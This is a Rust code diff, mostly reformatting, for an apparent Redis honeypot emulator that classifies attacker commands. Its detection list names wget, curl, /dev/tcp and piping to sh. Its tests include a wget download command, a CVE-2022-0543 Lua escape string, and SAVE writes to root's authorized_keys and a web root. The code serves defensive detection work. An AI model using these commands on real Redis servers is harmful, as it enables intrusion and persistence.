@@ -224,7 +224,8 @@ pub fn payload_kind(v: &[u8]) -> Option<&'static str> {
         return Some("webshell");
     }
     let lower = t.to_ascii_lowercase();
-    let script_signs = ["#!/", "|sh", "| sh", "|bash", "| bash", "wget ", "curl ", "base64 -d", "chmod +x", "/dev/tcp/"];
+    let script_signs =
+        ["#!/", "|sh", "| sh", "|bash", "| bash", "wget ", "curl ", "base64 -d", "chmod +x", "/dev/tcp/"];
     if script_signs.iter().any(|s| lower.contains(s)) {
         return Some("script");
     }
@@ -258,7 +259,11 @@ fn is_cron_line(line: &str) -> bool {
 
 /// Where a `SAVE` would write, and what that write is for.
 pub fn write_target(dir: &str, dbfilename: &str) -> (String, &'static str) {
-    let path = if dir.ends_with('/') || dir.ends_with('\\') { format!("{dir}{dbfilename}") } else { format!("{dir}/{dbfilename}") };
+    let path = if dir.ends_with('/') || dir.ends_with('\\') {
+        format!("{dir}{dbfilename}")
+    } else {
+        format!("{dir}/{dbfilename}")
+    };
     let p = path.to_ascii_lowercase();
     let kind = if p.contains("cron") {
         "redis-cron-write"
@@ -395,8 +400,11 @@ pub fn info(f: &Flavor, version: &str, data: &Dataset, section: Option<&str>, no
         sections.push(("modules", modules));
     }
     sections.push(("cluster", "cluster_enabled:0\r\n".into()));
-    let keyspace =
-        if data.keys.is_empty() { String::new() } else { format!("db0:keys={},expires=0,avg_ttl=0\r\n", data.keys.len()) };
+    let keyspace = if data.keys.is_empty() {
+        String::new()
+    } else {
+        format!("db0:keys={},expires=0,avg_ttl=0\r\n", data.keys.len())
+    };
     sections.push(("keyspace", keyspace));
     let want = section.map(|s| s.to_ascii_lowercase());
     let mut out = String::new();
@@ -443,7 +451,9 @@ fn stored_values(cmd: &str, args: &[Vec<u8>]) -> Vec<(Vec<u8>, Vec<u8>)> {
     match cmd {
         "SET" | "SETNX" | "GETSET" | "APPEND" if args.len() >= 3 => vec![(args[1].clone(), args[2].clone())],
         "SETEX" | "PSETEX" if args.len() >= 4 => vec![(args[1].clone(), args[3].clone())],
-        "MSET" | "MSETNX" => args[1..].chunks(2).filter(|c| c.len() == 2).map(|c| (c[0].clone(), c[1].clone())).collect(),
+        "MSET" | "MSETNX" => {
+            args[1..].chunks(2).filter(|c| c.len() == 2).map(|c| (c[0].clone(), c[1].clone())).collect()
+        }
         _ => Vec::new(),
     }
 }
@@ -752,7 +762,9 @@ fn config(f: &Flavor, data: &mut Dataset, args: &[Vec<u8>], out: &mut Outcome) -
             resp::simple("OK")
         }
         "RESETSTAT" | "REWRITE" => resp::simple("OK"),
-        "GET" | "SET" => resp::error(&format!("ERR wrong number of arguments for 'config|{}' command", sub.to_ascii_lowercase())),
+        "GET" | "SET" => {
+            resp::error(&format!("ERR wrong number of arguments for 'config|{}' command", sub.to_ascii_lowercase()))
+        }
         _ => resp::error(&format!("ERR unknown subcommand '{}'. Try CONFIG HELP.", text(&args[1]))),
     }
 }
@@ -922,7 +934,10 @@ mod tests {
         let ex = run(&mut d, &["system.exec", "wget http://203.0.113.9/m -O /tmp/m"]);
         assert_eq!(ex.shell_text, vec!["wget http://203.0.113.9/m -O /tmp/m".to_string()]);
         assert_eq!(run(&mut d, &["REPLICAOF", "NO", "ONE"]).exploits.len(), 0);
-        let lua = run(&mut d, &["eval", "local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io')", "0"]);
+        let lua = run(
+            &mut d,
+            &["eval", "local io_l = package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io')", "0"],
+        );
         assert!(matches!(&lua.exploits[0], Detail::Exploit { cve, .. } if cve == "CVE-2022-0543"));
     }
 
@@ -932,9 +947,15 @@ mod tests {
         let info = String::from_utf8(run(&mut d, &["info"]).reply).unwrap();
         assert!(info.starts_with("$") && info.contains("\r\n# Server\r\nredis_version:6.0.16\r\n"), "{info}");
         assert!(info.contains("os:Linux 5.10.0-28-amd64 x86_64") && info.contains("# Keyspace"));
-        assert_eq!(run(&mut d, &["GET", "/", "HTTP/1.0"]).reply, b"-ERR wrong number of arguments for 'get' command\r\n");
+        assert_eq!(
+            run(&mut d, &["GET", "/", "HTTP/1.0"]).reply,
+            b"-ERR wrong number of arguments for 'get' command\r\n"
+        );
         assert!(run(&mut d, &["POST", "/"]).close);
-        assert_eq!(run(&mut d, &["nope", "a"]).reply, b"-ERR unknown command `nope`, with args beginning with: `a`, \r\n");
+        assert_eq!(
+            run(&mut d, &["nope", "a"]).reply,
+            b"-ERR unknown command `nope`, with args beginning with: `a`, \r\n"
+        );
         assert_eq!(run(&mut d, &["ping"]).reply, b"+PONG\r\n");
         assert_eq!(run(&mut d, &["incr", "n"]).reply, b":1\r\n");
         assert_eq!(run(&mut d, &["keys", "*"]).reply, resp::array(&["n"]));
@@ -973,7 +994,10 @@ mod tests {
         assert_eq!(payload_kind(b"1 2 3"), None);
         assert!(glob(b"*", b"abc") && glob(b"a?c", b"abc") && glob(b"*c", b"abc") && !glob(b"b*", b"abc"));
         assert!(glob(b"d*", b"dir") && glob(b"*", b"") && !glob(b"x", b""));
-        assert_eq!(write_target("/root/.ssh/", "authorized_keys"), ("/root/.ssh/authorized_keys".into(), "redis-ssh-key-write"));
+        assert_eq!(
+            write_target("/root/.ssh/", "authorized_keys"),
+            ("/root/.ssh/authorized_keys".into(), "redis-ssh-key-write")
+        );
         assert_eq!(write_target("/var/www/html", "x.php").1, "redis-webshell-write");
     }
 
@@ -982,8 +1006,10 @@ mod tests {
         let f = flavor(Persona::Mixed);
         let mut d = Dataset::default();
         let mut c = Conn::default();
-        let cmds: [&[u8]; 12] =
-            [b"SET", b"CONFIG", b"MSET", b"INFO", b"MODULE", b"SLAVEOF", b"EVAL", b"CLIENT", b"SCAN", b"KEYS", b"INCRBY", b"MULTI"];
+        let cmds: [&[u8]; 12] = [
+            b"SET", b"CONFIG", b"MSET", b"INFO", b"MODULE", b"SLAVEOF", b"EVAL", b"CLIENT", b"SCAN", b"KEYS",
+            b"INCRBY", b"MULTI",
+        ];
         for (i, b) in crate::protocols::hostile::random_inputs(0x7ed1_5000_6379_0003, 20_000, 80, false).enumerate() {
             let _ = payload_kind(&b);
             let _ = glob(&b, b"dbfilename");
